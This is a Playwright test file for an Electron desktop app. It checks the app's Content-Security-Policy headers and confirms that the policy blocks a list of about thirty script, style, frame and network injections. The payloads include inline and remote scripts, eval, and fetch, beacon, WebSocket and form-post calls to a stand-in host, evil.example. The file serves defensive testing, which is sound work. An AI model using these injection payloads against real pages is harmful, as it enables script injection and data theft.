import { readFileSync } from 'node:fs'
import { expect, test } from '@playwright/test'
import { contentPolicy } from '../../src/main/electron/content-policy.ts'
import { dispose, launchApp, type RunningApp } from '../support/electron/launch-app.ts'
import { ConsolePage } from '../support/electron/console-page.ts'
import { listenForViolations } from '../support/electron/policy-violations.ts'
import { chooseTheme, visitEveryScreen } from '../support/electron/visit-screens.ts'

interface Seen {
  violatedDirective: string
}

let app: RunningApp

test.beforeEach(async () => {
  app = await launchApp()
})
test.afterEach(async () => {
  await app.close()
  dispose(app.profile)
})

test('every answer of app:// carries exactly the policy, and the hashes of the build', { tag: '@main' }, async () => {
  const { files, styleHashes } = JSON.parse(readFileSync('out/renderer-manifest.json', 'utf8')) as {
    files: string[]
    styleHashes: string[]
  }
  const answered = await app.electron.evaluate(async ({ BrowserWindow }, names) => {
    const answers = names.map((name) =>
      BrowserWindow.getAllWindows()[0]!.webContents.session.fetch(`app://factordesk/${name}`),
    )
    return (await Promise.all(answers)).map(({ headers }) => [
      headers.get('content-security-policy'),
      headers.get('x-dns-prefetch-control'),
    ])
  }, files)
  const policies = answered.map(([policy]) => policy)
  expect(new Set(policies)).toEqual(new Set([contentPolicy(styleHashes)]))
  expect(new Set(answered.map(([, prefetch]) => prefetch))).toEqual(new Set(['off']))
  expect(policies[0]).not.toMatch(/unsafe-|\*|https?:/)
})

test('a violation from before the listener is reported to it', { tag: '@main' }, async () => {
  const { page } = app
  expect(await app.violations()).toEqual([])
  await page.evaluate(() => {
    Reflect.deleteProperty(globalThis, 'policyViolations')
    document.body.append(Object.assign(document.createElement('script'), { textContent: 'pwned = 1' }))
  })
  await page.evaluate(listenForViolations)
  expect(await app.violations()).toMatchObject([{ violatedDirective: 'script-src-elem', blockedURI: 'inline' }])
})

/** What a page that an attacker writes into might try, with the directive that stops it. */
const attacks: { name: string; stoppedBy: string; code: string }[] = [
  { name: 'an inline script', stoppedBy: 'script-src-elem', code: "add('script', { textContent: 'pwned = 1' })" },
  {
    name: 'a remote script',
    stoppedBy: 'script-src-elem',
    code: "add('script', { src: 'https://evil.example/x.js' })",
  },
  {
    name: 'a script in a data: address',
    stoppedBy: 'script-src-elem',
    code: "add('script', { src: 'data:text/javascript,pwned=1' })",
  },
  {
    name: 'a script in a blob: address',
    stoppedBy: 'script-src-elem',
    code: "add('script', { src: URL.createObjectURL(new Blob(['pwned = 1'])) })",
  },
  {
    name: 'a remote module',
    stoppedBy: 'script-src-elem',
    code: "import('https://evil.example/x.mjs').catch(() => 0)",
  },
  {
    name: 'an inline handler',
    stoppedBy: 'script-src-attr',
    code: "add('p', { innerHTML: '<button onclick=pwned=1>' }).firstChild.click()",
  },
  {
    name: 'a javascript: link',
    stoppedBy: 'script-src-elem',
    code: "add('a', { href: 'javascript:pwned=1' }).click()",
  },
  { name: 'eval', stoppedBy: 'script-src', code: "try { (0, eval)('pwned = 1') } catch {}" },
  { name: 'new Function', stoppedBy: 'script-src', code: "try { new Function('pwned = 1')() } catch {}" },
  { name: 'a timer with text', stoppedBy: 'script-src', code: "try { setTimeout('pwned = 1') } catch {}" },
  {
    name: 'a worker',
    stoppedBy: 'worker-src',
    code: "try { new Worker(URL.createObjectURL(new Blob(['']))) } catch {}",
  },
  {
    name: 'a style element',
    stoppedBy: 'style-src-elem',
    code: "add('style', { textContent: 'body { display: none }' })",
  },
  { name: 'a style attribute', stoppedBy: 'style-src-attr', code: "add('p', {}).setAttribute('style', 'color: red')" },
  {
    name: 'a remote style sheet',
    stoppedBy: 'style-src-elem',
    code: "add('link', { rel: 'stylesheet', href: 'https://evil.example/x.css' })",
  },
  { name: 'a remote picture', stoppedBy: 'img-src', code: "add('img', { src: 'https://evil.example/x.png' })" },
  {
    name: 'a remote font',
    stoppedBy: 'font-src',
    code: "new FontFace('x', 'url(https://evil.example/x.woff2)').load().catch(() => 0)",
  },
  { name: 'a video', stoppedBy: 'media-src', code: "add('video', { src: 'https://evil.example/x.mp4' })" },
  { name: 'fetch', stoppedBy: 'connect-src', code: "fetch('https://evil.example/').catch(() => 0)" },
  {
    name: 'fetch of the own page',
    stoppedBy: 'connect-src',
    code: "fetch('app://factordesk/index.html').catch(() => 0)",
  },
  {
    name: 'XMLHttpRequest',
    stoppedBy: 'connect-src',
    code: "const x = new XMLHttpRequest(); x.open('GET', 'https://evil.example/'); x.send()",
  },
  { name: 'a web socket', stoppedBy: 'connect-src', code: "try { new WebSocket('wss://evil.example/') } catch {}" },
  { name: 'an event source', stoppedBy: 'connect-src', code: "new EventSource('https://evil.example/')" },
  { name: 'a beacon', stoppedBy: 'connect-src', code: "navigator.sendBeacon('https://evil.example/', 'x')" },
  { name: 'a frame', stoppedBy: 'frame-src', code: "add('iframe', { src: 'https://evil.example/' })" },
  {
    name: 'a frame with our own page',
    stoppedBy: 'frame-src',
    code: "add('iframe', { src: 'app://factordesk/index.html' })",
  },
  { name: 'an object', stoppedBy: 'object-src', code: "add('object', { data: 'https://evil.example/x.swf' })" },
  { name: 'an embed', stoppedBy: 'object-src', code: "add('embed', { src: 'https://evil.example/x.swf' })" },
  {
    name: 'a form',
    stoppedBy: 'form-action',
    code: "add('form', { action: 'https://evil.example/', method: 'post' }).submit()",
  },
  { name: 'another base', stoppedBy: 'base-uri', code: "add('base', { href: 'https://evil.example/' })" },
]

test('each injection is stopped, and by the directive that is meant to', { tag: '@main' }, async () => {
  const address = app.page.url()
  for (const { name, stoppedBy, code } of attacks) {
    // In a task of the page's own: what the inspector runs directly is exempt from the policy's ban on eval.
    const stopped = await app.electron.evaluate(
      async ({ BrowserWindow }, source) =>
        (await BrowserWindow.getAllWindows()[0]!.webContents.executeJavaScript(source)) as string,
      `new Promise((done) => {
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => done(effectiveDirective), { once: true })
        setTimeout(done, 30_000, 'nothing stopped it')
        const add = (tag, properties) => document.body.appendChild(Object.assign(document.createElement(tag), properties))
        const channel = new MessageChannel()
        channel.port1.onmessage = () => { ${code} }
        channel.port2.postMessage(0)
      })`,
    )
    expect.soft(stopped, name).toBe(stoppedBy)
  }
  expect(await app.page.evaluate(() => typeof (globalThis as { pwned?: unknown }).pwned)).toBe('undefined')
  expect(await app.page.evaluate(() => document.baseURI.startsWith('app://factordesk/'))).toBe(true)
  expect(app.page.url()).toBe(address)
})

for (const theme of ['light', 'dark'] as const) {
  test(`visiting every screen raises no violation, ${theme}`, async () => {
    const consolePage = new ConsolePage(app.page, app.sandbox)
    await chooseTheme(app, theme)
    const seenAt: Record<string, Seen[]> = {}
    await visitEveryScreen(app, consolePage, async (screen) => {
      const violations = (await app.violations()) as Seen[]
      if (violations.length > 0) seenAt[screen] = violations
    })
    expect(seenAt).toEqual({})
    // The listener is alive: were it not, the line above would prove nothing.
    await app.page.evaluate(() => document.body.setAttribute('style', 'color: red'))
    await expect.poll(async () => (await app.violations()).length).toBe(1)
  })
}
